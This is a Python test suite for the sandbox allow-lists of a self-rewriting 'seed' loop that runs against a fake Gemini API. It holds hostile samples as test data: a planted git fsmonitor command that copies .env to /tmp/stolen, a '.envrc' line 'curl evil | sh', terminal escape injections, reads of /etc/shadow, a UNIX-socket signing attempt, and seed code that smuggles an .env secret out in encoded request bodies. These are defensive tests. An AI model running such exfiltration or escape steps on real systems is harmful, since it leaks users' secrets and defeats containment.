"""Every boundary an allow-list: `python fallback.py` against the fake Gemini, with code that tries what nobody listed.

What lands (names: printable text, not too long, nothing that starts with "." nor git's own folder, nor .env by any
name), what recovery meets (a name too long, a folder where a file was, an object gone, a marker no keeper wrote),
what is written (secrets by their value, control characters shown), what leaves (no request upstream carrying a
secret of .env, whatever its encoding) and what the run reaches (of /etc, only what it needs; no UNIX socket of the
seed's own). Each test asserts what the person sees, as test_attacks.py's do.
"""
import base64
import html
import json
import os
import shutil
import socket
import sqlite3
import subprocess
from urllib.parse import quote

import pytest

import fake_gemini as api
from conftest import KEY, fresh_workspace, load_keeper
from fake_gemini import FakeGemini
from test_attacks import files_in, held, keyed, outside, seed_that  # noqa: F401 (keyed, outside: fixtures)
from test_fallback import outcomes, run_fallback

pytestmark = pytest.mark.xdist_group("test_allowlists")  # its shared runs are made once: all its tests in one worker

UNTAKEN = "rolled back: the run left what the keeper does not take: "


def written(*paths):
    """A seed's attack that writes each (path, text), making its folders; paths are Python string literals."""
    return "\n".join(f"os.makedirs(os.path.dirname({path}) or '.', exist_ok=True)\n"
                     f"open({path}, 'w').write({text!r})" for path, text in paths)


# --- what lands: the names ---------------------------------------------------------------------
NAMES = {  # a run's attack, and the rule its outcome names
    "a .git file whose repository runs a command at git status": (
        written(("'tools/.git'", "gitdir: repo\n"),
                ("'tools/repo/config'", "[core]\n\tfsmonitor = cp ../../.env /tmp/stolen\n")), "tools/.git: git's own"),
    ".git in another case, deeper": (written(("'pkg/deep/.GiT/hooks/post-checkout'", "echo hi\n")), "git's own"),
    "git's short name on a Windows disk": (written(("'GIT~1/config'", "[core]\n")), "GIT~1: git's own"),
    "an editor's settings that run tasks": (written(("'.vscode/tasks.json'", "{}\n")), ".vscode: a name that starts "
                                                                                        "with \".\""),
    "direnv's file": (written(("'.envrc'", "curl evil | sh\n")), ".envrc: a name that starts with"),
    "a CI workflow": (written(("'.github/workflows/ci.yml'", "on: push\n")), ".github: a name that starts with"),
    "pre-commit's configuration": (written(("'.pre-commit-config.yaml'", "repos: []\n")), "a name that starts with"),
    "a dot name nobody listed, deep": (written(("'lib/x/.editorconfig'", "root = true\n")), "a name that starts with"),
    "an emacs autosave of .env": (written(("'#.env#'", "X=1\n")), "#.env#: the name of .env or of a copy of it"),
    "a copy of .env by another name": (written(("'config/prod.env'", "X=1\n")), "the name of .env or of a copy"),
    "a C1 control (CSI) in a name": (written(("'a\\u009b2J.py'", "x = 1\n")), "not plain text (U+009B)"),
    "a right-to-left override in a name": (written(("'invoice\\u202etxt.py'", "x = 1\n")), "(U+202E)"),
    "a zero-width joiner that hides a .git": (written(("'\\u200c.git/config'", "[core]\n")), "(U+200C)"),
    "a line separator in a name": (written(("'a\\u2028b.py'", "x = 1\n")), "(U+2028)"),
    "a path longer than the folder can hold": (
        "d = os.open('.', os.O_RDONLY)\nfor _ in range(17):\n    os.mkdir('d' * 250, dir_fd=d)\n"
        "    d = os.open('d' * 250, os.O_RDONLY, dir_fd=d)\n"
        "open(os.open('deep.py', os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=d), 'w').write('x = 1\\n')",
        "a path longer than 4,095 bytes"),
}


def test_a_name_outside_the_allow_list_is_the_codes_failure_and_nothing_of_the_run_lands(keyed, env, gemini, outside):
    attacks = [code for code, _ in NAMES.values()]  # one an iteration, the seed counting the log's sections
    (keyed / "seed.py").write_text(seed_that(
        f"exec({attacks!r}[pathlib.Path('iteration_log.md').read_text().count(chr(10) + '## Iteration ')])"))
    for _ in attacks:
        gemini.reply(api.answer([("other.py", "x = 3\n")]))
    done = run_fallback(keyed, env, "--iterations", str(len(attacks)), timeout=300)
    held(keyed, done, gemini, outside, len(attacks))
    for outcome, (attack, (_, rule)) in zip(outcomes(keyed), NAMES.items()):
        assert outcome.startswith(UNTAKEN) and rule in outcome, (attack, outcome)
    assert not (keyed / "other.py").exists()  # nothing of any run landed
    assert sorted(p.name for p in keyed.iterdir() if p.name not in (".seed", "backups")) == sorted(
        ["fallback.py", "supervisor", ".env", ".env.example", "seed.py", "goal.md", "pending_tasks.md",
         "iteration_log.md", "report.html"])
    assert f"was rolled back: {UNTAKEN[13:]}" in (keyed / "pending_tasks.md").read_text()  # a task says which rule


def test_the_caches_a_run_leaves_are_never_taken_nor_its_failure(keyed, env, gemini, outside):
    (keyed / "seed.py").write_text(seed_that(written(
        ("'.pytest_cache/v/cache/lastfailed'", "{}\n"), ("'tests/.pytest_cache/README.md'", "cache\n"),
        ("'pkg/__pycache__/mod.cpython-311.pyc'", "not code\n"), ("'pkg/mod.py'", "M = 1\n"))))
    gemini.reply(api.answer([("other.py", "x = 3\n")]))
    done = run_fallback(keyed, env, "--iterations", "1", timeout=120)
    held(keyed, done, gemini, outside, 1)
    assert outcomes(keyed) == ["landed: 2 file(s) changed"]  # pkg/mod.py and other.py: no cache, no record
    assert not (keyed / ".pytest_cache").exists() and not (keyed / "pkg" / "__pycache__").exists()


def test_a_dot_name_the_person_lets_in_lands_and_no_other(keyed, env, gemini, outside):
    env["SEED_DOT_NAMES"] = ".gitignore"
    (keyed / "seed.py").write_text(seed_that(written(("'.gitignore'", "*.pyc\n"))))
    gemini.reply(api.answer([("other.py", "x = 3\n")]))
    done = run_fallback(keyed, env, "--iterations", "1", timeout=120)
    held(keyed, done, gemini, outside, 1)
    assert outcomes(keyed) == ["landed: 2 file(s) changed"] and (keyed / ".gitignore").read_text() == "*.pyc\n"
    env["SEED_DOT_NAMES"] = ".gitignore .git"
    refused = run_fallback(keyed, env, "--iterations", "1")
    assert refused.returncode == 78 and refused.stderr.startswith("fallback: SEED_DOT_NAMES holds '.git'"), \
        refused.stderr


def test_the_export_survives_a_git_file_an_older_keeper_landed(workspace, env, gemini, tmp_path):
    gemini.reply(api.answer([("tools/run.py", "x = 1\n")]))
    assert run_fallback(workspace, env, "--iterations", "1").returncode == 0
    plant_in_the_last_snapshot(workspace, {"tools/.git": b"gitdir: repo\n",
                                           "tools/repo/config": b"[core]\n\tfsmonitor = touch pwned\n"})
    done = run_fallback(workspace, env, "--export-git", str(tmp_path / "history"))
    assert done.returncode == 0 and "1 file(s) left out" in done.stdout and "tools/.git" in done.stdout, \
        done.stdout + done.stderr
    tracked = subprocess.run(["git", "-C", str(tmp_path / "history"), "ls-files"], capture_output=True, text=True)
    assert {"tools/repo/config", "tools/run.py"} <= set(tracked.stdout.split())  # main checked out...
    assert "tools/.git" not in tracked.stdout.split()  # ...without the .git file
    status = subprocess.run(["git", "status", "--short"], cwd=tmp_path / "history" / "tools", capture_output=True)
    assert status.returncode == 0 and not (tmp_path / "history" / "tools" / "pwned").exists()


def plant_in_the_last_snapshot(root, files):
    """Add files to the newest snapshot, as a keeper from before the allow-list could have taken them."""
    objects = root / "backups" / "objects"

    def store(data):
        sha = __import__("hashlib").sha256(data).hexdigest()
        (objects / sha[:2]).mkdir(exist_ok=True)
        (objects / sha[:2] / sha[2:]).write_bytes(data)
        return sha
    last = json.loads((root / "backups" / "index.json").read_text())["snapshots"][-1]["id"]
    folders = json.loads((root / "backups" / f"{last}.json").read_text())
    for rel, data in files.items():
        folder, name = rel.rsplit("/", 1)
        listing = json.loads((objects / folders[folder + "/"][:2] / folders[folder + "/"][2:]).read_bytes()) \
            if folder + "/" in folders else {}
        listing[name] = store(data)
        folders[folder + "/"] = store(json.dumps(listing, sort_keys=True).encode())
    (root / "backups" / f"{last}.json").write_text(json.dumps(folders, sort_keys=True, indent=0))


# --- recovery is total ---------------------------------------------------------------------------
def test_a_name_as_long_as_the_folder_takes_lands_and_every_start_after_is_clean(keyed, env, gemini, outside):
    long_names = ["n" * 245 + ".py", "m" * 252 + ".py"]  # the keeper's temporary names never grow with them
    (keyed / "seed.py").write_text(seed_that("\n".join(
        f"if not os.path.exists({name!r}):\n    open(os.open({name!r}, os.O_WRONLY | os.O_CREAT, 0o644), 'w')"
        ".write('x = 1\\n')" for name in long_names)))
    gemini.reply(api.answer([("other.py", "x = 3\n")])).reply(api.answer([("other.py", "x = 4\n")]))
    done = run_fallback(keyed, env, "--iterations", "2", timeout=120)
    held(keyed, done, gemini, outside, 2)
    assert outcomes(keyed) == ["landed: 3 file(s) changed", "landed: 1 file(s) changed"]
    assert all((keyed / name).read_text() == "x = 1\n" for name in long_names)
    assert not (keyed / "backups" / "landing.json").exists()


SOME = "1" * 64  # an object no store holds
LEFT_BEHIND = {  # what a killed keeper (or one from before) may leave, and what the next start must not die on
    "a landing of a name too long": {"landing.json": {"n" * 300 + ".py": "OBJECT"}, "settling.json": "START"},
    "a landing where a folder stands for a file": {"landing.json": {"mine": "OBJECT"}, "settling.json": "START",
                                                   "folder": "mine"},
    "a landing whose content is gone from the store": {"landing.json": {"b.py": SOME, "c.py": "OBJECT"},
                                                      "settling.json": "START"},
    "a landing no keeper wrote": {"landing.json": {"../escape.py": "OBJECT", "tools/.git": "OBJECT", "d.py": 5,
                                                   "e.py": "../../etc/passwd"}},
    "a landing that is not a plan": {"landing.json": ["not", "a", "plan"]},
    "a restore whose snapshot lost a listing": {"restoring.json": {"id": "LAST"}, "lose": "listing"},
    "an iteration cut short whose start lost a listing": {"iteration.json": {"iteration": 7, "start": "LAST"},
                                                          "lose": "listing"},
    "a landing to settle whose start lost a content": {"settling.json": "START", "lose": "content",
                                                       "landing.json": {"a.py": "OBJECT"}},
}


@pytest.fixture(scope="module")
def landed_once(tmp_path_factory):
    """A workspace where one change (a.py) landed: copied for each test of recovery, run once for them all."""
    root, fake = fresh_workspace(tmp_path_factory.mktemp("landed") / "workspace"), FakeGemini()
    try:
        fake.reply(api.answer([("a.py", "a = 1\n")]))
        env = {name: value for name, value in os.environ.items() if not name.startswith(("GEMINI_", "SEED_"))}
        env.update(GEMINI_API_KEY=KEY, GEMINI_API_BASE=fake.url, GEMINI_MODEL="gemini-3.5-flash")
        done = run_fallback(root, env, "--iterations", "1")
        assert done.returncode == 0 and outcomes(root) == ["landed: 1 file(s) changed"], done.stderr
    finally:
        fake.close()
    return root


@pytest.mark.parametrize("left", LEFT_BEHIND)
def test_recovery_finishes_or_undoes_whatever_an_earlier_iteration_left_and_the_loop_goes_on(landed_once, env, gemini,
                                                                                            tmp_path, left):
    workspace = tmp_path / "workspace"
    shutil.copytree(landed_once, workspace, symlinks=True)
    gemini.reply(api.answer([("z.py", "z = 1\n")]))
    leave(workspace, LEFT_BEHIND[left])
    done = run_fallback(workspace, env, "--iterations", "1")
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stdout[-2000:] + done.stderr[-3000:]
    assert outcomes(workspace)[-1] == "landed: 1 file(s) changed" and (workspace / "z.py").exists(), outcomes(workspace)
    assert not [name for name in ("landing.json", "settling.json", "restoring.json", "iteration.json")
                if (workspace / "backups" / name).exists()]
    assert not (workspace.parent / "escape.py").exists() and not (workspace / "tools").exists()
    again = run_fallback(workspace, env, "--status")
    assert again.returncode == 0 and "Traceback" not in again.stderr


def leave(root, what):
    """Write the markers `what` names into backups/, as a killed keeper would have left them."""
    backups, index = root / "backups", json.loads((root / "backups" / "index.json").read_text())
    last = index["snapshots"][-1]["id"]
    listing = json.loads((backups / f"{last}.json").read_text())
    content = json.loads(object_of(root, listing[""]))["a.py"]
    swap = {"OBJECT": content, "START": {"iteration": 9, "start": last}, "LAST": last}
    for name in ("landing.json", "settling.json", "restoring.json", "iteration.json"):
        if name in what:
            value = what[name]
            value = swap.get(value, value) if isinstance(value, str) else value
            if isinstance(value, dict):
                value = {key: swap.get(item, item) if isinstance(item, str) else item for key, item in value.items()}
            (backups / name).write_text(json.dumps(value))
    if "folder" in what:
        (root / what["folder"] / "inside").mkdir(parents=True)
    if what.get("lose") == "listing":
        path_of(root, listing[""]).unlink()
    if what.get("lose") == "content":
        path_of(root, content).unlink()


def path_of(root, sha):
    return root / "backups" / "objects" / sha[:2] / sha[2:]


def object_of(root, sha):
    return path_of(root, sha).read_bytes()


# --- secrets by their value ----------------------------------------------------------------------
BACKUPS_OF_ENV = ["#.env#", ".env~", ".env.bak", ".env.swp", "Copy of .env", "notes/.env.orig", "config/prod.env"]


def test_env_by_any_name_an_editor_gives_it_is_never_the_codebase_nor_in_a_prompt(keyed, env, gemini, outside):
    for name in BACKUPS_OF_ENV:
        (keyed / name).parent.mkdir(exist_ok=True)
        (keyed / name).write_text(f"GEMINI_API_KEY={KEY}\n")
    gemini.reply(api.answer([("a.py", "a = 1\n")]))
    done = run_fallback(keyed, env, "--iterations", "1")
    assert done.returncode == 0, done.stderr
    assert outcomes(keyed) == ["landed: 1 file(s) changed"] and len(gemini.requests) == 1  # asked, and landed
    assert KEY not in gemini.requests[0]["raw"].decode()
    work = keyed / ".seed" / "work"
    assert not [name for name in BACKUPS_OF_ENV if (work / name).exists()]
    assert not [str(p) for p in files_in(keyed / "backups") if KEY.encode() in p.read_bytes()]


SECRET = "hunter2-Correct-Horse-Battery-Staple"


def encodings():
    """Ways a rewritten seed could carry a value in its prompt, as Python expressions of `value`."""
    return {"as it is": "value", "JSON-escaped": "JSON", "base64-encoded": "base64.b64encode(b'xy' + "
                                                                           "value.encode()).decode()",
            "split across two strings": "SPLIT"}  # the others (percent, hex, reversed...): in process, below


@pytest.mark.parametrize("encoding", encodings())
def test_a_request_carrying_a_secret_of_env_never_leaves_whatever_its_encoding(keyed, env, gemini, outside, encoding):
    with open(keyed / ".env", "a") as dotenv:
        dotenv.write(f"SMTP_PASSWORD={SECRET}\n")
    (keyed / "deploy.txt").write_text(f"the person's file holds {SECRET}\n")  # a secret where the seed can read it
    how = encodings()[encoding]
    (keyed / "seed.py").write_text(seed_that(
        "import base64, json as j, requests\nfrom urllib.parse import quote\n"
        "value = pathlib.Path('deploy.txt').read_text().split()[-1]\npost = requests.post\n"
        "def carrying(url, json=None, **rest):\n"
        "    json['contents'][0]['parts'][0]['text'] = 'hello'\n"
        f"    if {how!r} == 'SPLIT':\n"
        "        json['contents'][0]['parts'] += [{'text': value[:9]}, {'text': value[9:]}]\n"
        "        return post(url, json=json, **rest)\n"
        "    body = j.dumps(json).replace('hello', 'CARRIED')\n"
        f"    carried = ''.join(f'\\\\u{{ord(c):04x}}' for c in value) if {how!r} == 'JSON' else {how}\n"
        "    return post(url, data=body.replace('CARRIED', carried).encode(), **rest)\n"
        "requests.post = carrying"))
    gemini.reply(api.answer([("a.py", "a = 1\n")]))
    done = run_fallback(keyed, env, "--iterations", "1")
    assert done.returncode == 78 and not gemini.requests, done.stdout + done.stderr  # nothing went upstream
    assert outcomes(keyed) == ["stopped: configuration error"]
    assert "the request carries the value of SMTP_PASSWORD" in (keyed / "iteration_log.md").read_text()
    assert not written_anywhere(keyed, SECRET, but=["deploy.txt"])


def written_anywhere(root, secret, but=()):
    """The files the keeper wrote that hold the secret (the record's tables as stored, read whole)."""
    found = [str(p) for p in files_in(root) if p.name not in (".env", *but) and ".seed" not in p.parts
             and "objects" not in p.parts and secret.encode() in p.read_bytes()]
    record = root / "backups" / "record.sqlite"
    if record.exists():
        with sqlite3.connect(record) as db:
            rows = [repr(row) for table in ("iterations", "requests") for row in db.execute(f"SELECT * FROM {table}")]
        found += ["record"] if any(secret in row for row in rows) else []
    return found


def test_every_file_the_keeper_writes_is_scrubbed_of_the_secrets_of_env_by_value(keyed, env, gemini, outside):
    other = "postgres://me:" + SECRET[::-1] + "@db"  # a secret by the setting's name alone
    with open(keyed / ".env", "a") as dotenv:
        dotenv.write(f"SMTP_PASSWORD={SECRET}\nDATABASE_URL={other}\n")
    env["SEED_SECRETS"] = "DATABASE_URL"
    (keyed / "vault.bin").write_bytes(b"\0binary, so the seed never shows it: " + f"{SECRET} {other}".encode())
    leak = "def test_vault():\n    assert False, open('vault.bin', 'rb').read()\n"  # the model's test prints them
    gemini.reply(api.answer([("tests/test_vault.py", leak)]))
    done = run_fallback(keyed, env, "--iterations", "1")
    held(keyed, done, gemini, outside, 1)
    assert outcomes(keyed) == ["rolled back: tests failed"]
    assert "[SMTP_PASSWORD] [DATABASE_URL]" in (keyed / "iteration_log.md").read_text()  # there, taken out
    for secret in (SECRET, other):
        assert not written_anywhere(keyed, secret, but=["vault.bin"]) and secret not in done.stdout + done.stderr


# --- what is written: control characters shown ----------------------------------------------------
ESCAPES = {"OSC 52 (the clipboard)": "\x1b]52;c;ZWNobyBwd25lZA==\x07", "a title": "\x1b]0;pwned\x07",
           "clear-screen": "\x1b[2J\x1b[H", "C1 CSI": "\x9b31m", "a right-to-left override": "\u202e"}


def test_text_from_the_model_reaches_the_log_and_the_tasks_with_its_control_characters_shown(workspace, env, gemini,
                                                                                             outside):
    output = "".join(ESCAPES.values())
    failing = f"def test_output():\n    print({output!r})\n    assert False, {output!r}\n"
    answer = api.answer([("tests/test_escapes.py", failing), ("bell\x07\x1b[2J.py", "x = 1\n")],
                        tasks=["a task \x1b]0;title\x07 with escapes", "another\x9b2J"])
    gemini.reply(answer)
    done = run_fallback(workspace, env, "--iterations", "1")
    held(workspace, done, gemini, outside, 1)
    assert outcomes(workspace) == ["rolled back: tests failed"]
    for name in ("iteration_log.md", "pending_tasks.md"):
        text = (workspace / name).read_text()
        raw = [c for c in text if not c.isprintable() and c not in "\n"]
        assert not raw, (name, raw)
    log = (workspace / "iteration_log.md").read_text()
    assert "\\x1b]52;c;" in log and "\\x9b31m" in log and "\\u202e" in log  # shown, not dropped
    assert "bell\\x07\\x1b[2J.py" in log and "a task \\x1b]0;title\\x07 with escapes" in log
    assert "\\x1b]0;pwned\\x07" in (workspace / "pending_tasks.md").read_text()


# --- what the run reaches -------------------------------------------------------------------------
def test_the_run_reads_of_etc_only_what_it_needs_and_reaches_no_unix_socket_of_the_persons(keyed, env, gemini,
                                                                                           outside, tmp_path):
    tries = {path: f"open({path!r}).read()" for path in ("/etc/shadow", "/etc/gshadow", "/etc/machine-id",
                                                          "/etc/fstab") if os.path.isfile(path)}
    tries["what a run needs"] = ("import ssl\nssl.create_default_context().load_default_certs()\n"
                                 "socket.getaddrinfo('localhost', 80)")
    path = tmp_path / "agent.sock"  # as ssh-agent's, gpg-agent's or docker's, outside the hidden folders
    tries["a UNIX socket"] = f"s = socket.socket(socket.AF_UNIX)\ns.connect({str(path)!r})\ns.sendall(b'SIGN THIS')"
    (keyed / "seed.py").write_text(seed_that(
        "import json, socket\nseen = {}\n"
        f"for what, action in {tries!r}.items():\n"
        "    try:\n        exec(action)\n        seen[what] = 'done'\n"
        "    except OSError as error:\n        seen[what] = error.strerror\n"
        "pathlib.Path('seen.json').write_text(json.dumps(seen))"))
    gemini.reply(api.answer([("other.py", "x = 3\n")]))
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(path))
        listener.listen()
        listener.settimeout(0.1)
        done = run_fallback(keyed, env, "--iterations", "1", timeout=120)
        with pytest.raises(OSError):  # nothing ever connected
            listener.accept()
    held(keyed, done, gemini, outside, 1)
    seen = json.loads((keyed / "seen.json").read_text())
    assert seen.pop("what a run needs") == "done" and seen.pop("a UNIX socket") == "Operation not permitted"
    assert seen and set(seen.values()) == {"Permission denied"}, seen

# --- the allow-lists themselves, in process --------------------------------------------------------
names, scrub = load_keeper("names"), load_keeper("scrub")


@pytest.mark.parametrize("rel", ["c-d_e.py", "n" * 255, "tests/test_x.py", "Icon.py", "environment.py",
                                 "envelope/.env".replace("/.env", "/env.py")])  # café.py, a b.py: test_names.py
def test_names_on_the_allow_list_are_taken(rel):
    assert names.refusal(rel) is None


@pytest.mark.parametrize("rel, rule", [
    ("Icon\r", "U+000D"), ("a\x1b[2J.py", "U+001B"), ("a\x7f.py", "U+007F"), ("a\x85b.py", "U+0085"),
    ("a\u00a0b.py", "U+00A0"), ("x\u202e.py", "U+202E"), ("\ufeffa.py", "U+FEFF"), ("a\U000e0041.py", "U+E0041"),
    ("caf\udce9.py", "a byte that is not UTF-8"), ("n" * 256, "longer than 255 bytes"),
    ("é" * 128, "longer than 255 bytes"), ("d/" * 2100 + "x.py", "a path longer than 4,095 bytes"),
    (".git", "git's own"), ("a/.GIT/config", "git's own"), ("a/.git. ", "git's own"), ("Git~1/x", "git's own"),
    ("..", "starts with"), ("../x.py", "starts with"), (".hidden", "starts with"), ("a//b", "an empty name"),
    ("#.env#", ".env or of a copy"), ("Copy of .env", ".env or of a copy"), ("x/prod.ENV", ".env or of a copy")])
def test_names_outside_the_allow_list_are_refused_saying_which_rule(rel, rule):
    assert rule in (names.refusal(rel) or ""), names.refusal(rel)
    assert names.refusal(rel).isprintable()  # the rule's line shows the name without its control characters


def test_every_encoding_of_a_secret_is_found_at_every_alignment_and_nothing_else(monkeypatch):
    monkeypatch.setenv("GEMINI_API_KEY", SECRET)
    for before in range(6):
        for form, text in [("base64", base64.b64encode), ("base32", base64.b32encode),
                           ("urlsafe", base64.urlsafe_b64encode)]:
            body = json.dumps({"text": text(os.urandom(before) + SECRET.encode() + os.urandom(3)).decode()})
            assert scrub.secret_in(body.encode()), (form, before)
    for carried in [SECRET, quote(SECRET, safe=""), SECRET[::-1], SECRET.encode().hex().upper()]:
        assert scrub.secret_in(json.dumps({"contents": [{"parts": [{"text": f"x {carried} y"}]}]}))
    assert scrub.secret_in('{"a": "' + "".join(f"\\u{ord(c):04x}" for c in SECRET) + '"}')
    assert scrub.secret_in(json.dumps({"parts": [{"text": SECRET[:5]}, {"text": SECRET[5:]}]}))
    assert scrub.secret_in(json.dumps({"text": SECRET[:-1] + "?"})) is None


def test_one_scrub_for_text_and_bytes_as_the_files_write_the_secret(monkeypatch):
    odd = 'pass"word\\é-long'
    monkeypatch.setenv("GEMINI_API_KEY", odd)
    assert scrub.redact(f"key {odd}!") == "key [GEMINI_API_KEY]!"
    assert scrub.redact(json.dumps({"k": odd}).encode()) == b'{"k": "[GEMINI_API_KEY]"}'
    assert scrub.redact(json.dumps({"k": odd}, ensure_ascii=False)) == '{"k": "[GEMINI_API_KEY]"}'
    assert scrub.redact(f"<p>{html.escape(odd)}</p>") == "<p>[GEMINI_API_KEY]</p>"  # as the page writes it
    assert scrub.redact("AIza" + "x" * 35) == "[GEMINI_API_KEY]"


def test_the_one_sanitizer_shows_every_character_that_is_not_printable_text():
    assert scrub.printable("ok é 日本") == "ok é 日本"
    assert scrub.printable("\x1b]0;t\x07\x9b\u202e\udcff") == "\\x1b]0;t\\x07\\x9b\\u202e\\xff"
    assert scrub.printable("a\tb\nc\x1b", keep="\n\t") == "a\tb\nc\\x1b"
